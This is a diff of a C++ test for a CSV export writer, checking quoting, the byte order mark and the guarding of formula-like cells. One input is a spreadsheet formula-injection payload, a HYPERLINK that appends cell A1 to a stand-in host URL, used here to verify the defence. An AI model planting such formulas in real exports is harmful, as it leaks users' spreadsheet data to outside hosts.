@@ -88,44 +88,32 @@ TEST(HtmlTableWriter, ReplacesAnExistingFileAndKeepsLongTextsWholeAcrossFlushes)
     EXPECT_EQ(ReadFile(path), HtmlTable("t", rows));  // the shorter second file only
 }
 
-TEST(CsvTableWriter, QuotesCommasQuotesAndLineBreaksAfterAByteOrderMark) {
+// Quotes around commas, quotes and line breaks; a guard before texts that start like a
+// formula but not before the numbers the export formats; all after a byte order mark.
+TEST(CsvTableWriter, QuotesAndGuardsTextsButNotTheNumbersItFormats) {
     TempModuleFolder temp;
     const std::string path = temp.Path() + "out.CSV";
-    {
-        auto writer = MakeTableWriter(path);
-        ASSERT_EQ(writer->Open("销售资料", path), 1);
-        writer->WriteRow(Row{"主题", "金额"});
-        writer->WriteRow(Row{"a,b", "说\"好\""});
-        writer->WriteRow(Row{"line1\nline2", ""});
-        writer->WriteRow(Row{"cr\rx", "<plain> & ok"});
-        ASSERT_EQ(writer->Close(), 1);
-    }
-    EXPECT_EQ(ReadFile(path),
-              "\xEF\xBB\xBF"
-              "主题,金额\r\n"
-              "\"a,b\",\"说\"\"好\"\"\"\r\n"
-              "\"line1\nline2\",\r\n"
-              "\"cr\rx\",<plain> & ok\r\n");
-}
-
-TEST(CsvTableWriter, GuardsTextsThatStartLikeAFormulaButNotTheNumbersItFormats) {
-    TempModuleFolder temp;
-    const std::string path = temp.Path() + "out.csv";
     TableCell amount("-12.50"), count("-3"), when("2007_03_01");
     amount.kind = CellKind::Money;
     count.kind = CellKind::Integer;
     when.kind = CellKind::Day;
     {
-        CCsvTableWriter writer;
-        ASSERT_EQ(writer.Open("t", path), 1);
-        writer.WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
-        writer.WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
-        writer.WriteRow(Row{"a=1", "1+1", "x-@\t"});
-        writer.WriteRow(Row{amount, count, when});
-        ASSERT_EQ(writer.Close(), 1);
+        auto writer = MakeTableWriter(path);
+        ASSERT_EQ(writer->Open("销售资料", path), 1);
+        writer->WriteRow(Row{"主题", "金额", ""});
+        writer->WriteRow(Row{"a,b", "说\"好\"", "line1\nline2"});
+        writer->WriteRow(Row{"cr\rx", "<plain> & ok", ""});
+        writer->WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
+        writer->WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
+        writer->WriteRow(Row{"a=1", "1+1", "x-@\t"});
+        writer->WriteRow(Row{amount, count, when});
+        ASSERT_EQ(writer->Close(), 1);
     }
     EXPECT_EQ(ReadFile(path),
               "\xEF\xBB\xBF"
+              "主题,金额,\r\n"
+              "\"a,b\",\"说\"\"好\"\"\",\"line1\nline2\"\r\n"
+              "\"cr\rx\",<plain> & ok,\r\n"
               "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",'+1,'-1\r\n"
               "'@SUM(A1),'\tx,\"'\rx\"\r\n"
               "a=1,1+1,x-@\t\r\n"
